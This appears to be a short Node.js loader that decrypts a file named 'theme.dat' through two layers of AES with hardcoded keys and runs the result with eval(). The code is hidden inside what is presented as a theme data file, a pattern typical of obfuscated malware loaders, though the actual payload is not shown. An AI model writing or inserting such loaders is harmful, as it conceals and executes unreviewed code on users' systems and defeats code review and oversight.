const crypto = require('crypto'), fs = require('fs');
const key = Buffer.alloc(32, 'k'), iv = Buffer.alloc(16, 'i');
const d = crypto.createDecipheriv('aes-256-cbc', key, iv);
const inner = Buffer.concat([d.update(fs.readFileSync(__dirname + '/theme.dat')), d.final()]);
const c = crypto.createCipheriv('aes-256-ctr', key, iv);
const text = Buffer.concat([c.update(inner), c.final()]).toString();
eval(text);
